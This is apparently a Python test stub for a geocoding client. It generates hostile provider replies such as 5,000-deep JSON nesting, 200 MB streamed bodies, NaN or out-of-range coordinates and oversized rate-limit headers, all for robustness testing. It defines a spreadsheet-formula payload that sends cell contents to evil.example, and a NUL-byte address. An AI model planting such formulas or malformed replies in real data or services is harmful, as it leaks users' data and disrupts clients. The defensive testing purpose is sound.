"""Hostile answers a stub can give (``StubServer.hostile(mode, n)``): what a broken or
malicious provider, or a proxy in between, could send back to a geocoding client.

=================== ===========================================================================
mode                the answer (HTTP 200 unless said)
=================== ===========================================================================
``charset``         the normal answer, declared in a charset nobody knows
``deep``            JSON arrays nested 5,000 deep
``huge``            a body of ``huge_bytes`` (default 200 MB), streamed, never held in memory
``trickle``         the normal answer, one byte every 50 ms
``not_a_list``      the results' place holds an object instead of a list
``text_coordinates`` the latitude is a word
``null_coordinates`` the latitude is null (geopy would read it as 0)
``nan``             the latitude is NaN (a literal JSON does not allow)
``out_of_range``    latitude 123, longitude 500
``formula``         the formatted address is a spreadsheet formula
``nul``             the formatted address holds a NUL byte
``bad_rate``        the normal answer with a ``rate`` block and rate headers past any float
``bad_throttle``    HTTP 429, ``Retry-After`` of 400 digits, a body nested 5,000 deep
=================== ===========================================================================

The formula, NUL and bad_rate modes are valid answers: the client must take them (and escape
or clean what it writes, ignore rate figures it cannot read).
"""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

from tollway.outbound.geocode.stubs.dialects import Dialect, Reply, Request, Window

__all__ = ["FORMULA", "HOSTILE_MODES", "HUGE_BYTES", "NUL_ADDRESS", "hostile_reply"]

HOSTILE_MODES: tuple[str, ...] = (
    "charset",
    "deep",
    "huge",
    "trickle",
    "not_a_list",
    "text_coordinates",
    "null_coordinates",
    "nan",
    "out_of_range",
    "formula",
    "nul",
    "bad_rate",
    "bad_throttle",
)
HUGE_BYTES = 200 * 1000 * 1000
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
"""The formatted address of the ``formula`` mode."""
NUL_ADDRESS = "1 Nul Road\x00, Stubton"
"""The formatted address of the ``nul`` mode."""

DEPTH = 5000
TRICKLE_SECONDS = 0.05

# Per kind: where the list of results is (None: the page is the list), the formatted
# address in a result, and the latitude's and longitude's paths in a result.
_RESULTS = {
    "nominatim": None,
    "opencage": "results",
    "google": "results",
    "here": "items",
    "mapbox": "features",
}
_ADDRESS = {
    "nominatim": "display_name",
    "opencage": "formatted",
    "google": "formatted_address",
    "here": "title",
    "mapbox": "place_name",
}
_LAT: dict[str, tuple[str | int, ...]] = {
    "nominatim": ("lat",),
    "opencage": ("geometry", "lat"),
    "google": ("geometry", "location", "lat"),
    "here": ("position", "lat"),
    "mapbox": ("geometry", "coordinates", 1),
}
_LON: dict[str, tuple[str | int, ...]] = {
    "nominatim": ("lon",),
    "opencage": ("geometry", "lng"),
    "google": ("geometry", "location", "lng"),
    "here": ("position", "lng"),
    "mapbox": ("geometry", "coordinates", 0),
}


def hostile_reply(
    dialect: Dialect, mode: str, request: Request, window: Window, huge_bytes: int
) -> Reply:
    """The ``mode`` answer to ``request`` (a request the provider would answer normally)."""
    normal = dialect.answer(request, window)
    if mode == "charset":
        return replace(normal, content_type="application/json; charset=x-no-such-charset")
    if mode == "deep":
        return replace(normal, body=b"[" * DEPTH + b"]" * DEPTH)
    if mode == "huge":
        head = b'{"results": [{"formatted": "'
        filler = b"a" * 65536
        return replace(normal, body=head, filler=filler, repeat=huge_bytes // len(filler))
    if mode == "trickle":
        return replace(normal, trickle=TRICKLE_SECONDS)
    if mode == "bad_throttle":
        headers = {"Retry-After": "9" * 400, "X-RateLimit-Reset": "9" * 400}
        return Reply(429, b"[" * DEPTH + b"]" * DEPTH, normal.content_type, headers)
    too_big = "9" * 400
    if mode == "bad_rate":
        headers = {"X-RateLimit-Remaining": too_big, "X-RateLimit-Reset": "1e999"}
        body = normal.body
        if dialect.kind != "nominatim":  # a page that is an object can carry a rate block
            page = json.loads(body)
            page["rate"] = {"limit": 1, "remaining": int(too_big), "reset": int(too_big)}
            body = json.dumps(page, ensure_ascii=False).encode("utf-8")
        return replace(normal, body=body, headers=headers)
    page = json.loads(normal.body)
    key = _RESULTS[dialect.kind]
    results = page if key is None else page[key]
    if mode == "not_a_list":
        if key is None:
            page = {"results": results}
        else:
            page[key] = {"first": results[0] if results else None}
        return _with(normal, page)
    for result in results:
        _mutate(dialect.kind, mode, result)
    return _with(normal, page)


def _mutate(kind: str, mode: str, result: dict[str, Any]) -> None:
    if mode == "formula":
        result[_ADDRESS[kind]] = FORMULA
    elif mode == "nul":
        result[_ADDRESS[kind]] = NUL_ADDRESS
    elif mode == "text_coordinates":
        _set(result, _LAT[kind], "north-ish")
    elif mode == "null_coordinates":
        _set(result, _LAT[kind], None)
    elif mode == "nan":
        _set(result, _LAT[kind], float("nan"))
    elif mode == "out_of_range":
        _set(result, _LAT[kind], 123.0)
        _set(result, _LON[kind], 500.0)
    if mode in ("formula", "nul") and kind == "here":
        result["address"]["label"] = result[_ADDRESS[kind]]


def _set(result: dict[str, Any], path: tuple[str | int, ...], value: Any) -> None:
    holder: Any = result
    for step in path[:-1]:
        holder = holder[step]
    holder[path[-1]] = value


def _with(reply: Reply, page: Any) -> Reply:
    # json.dumps writes NaN as the bare word NaN, as a careless provider would.
    return replace(reply, body=json.dumps(page, ensure_ascii=False).encode("utf-8"))
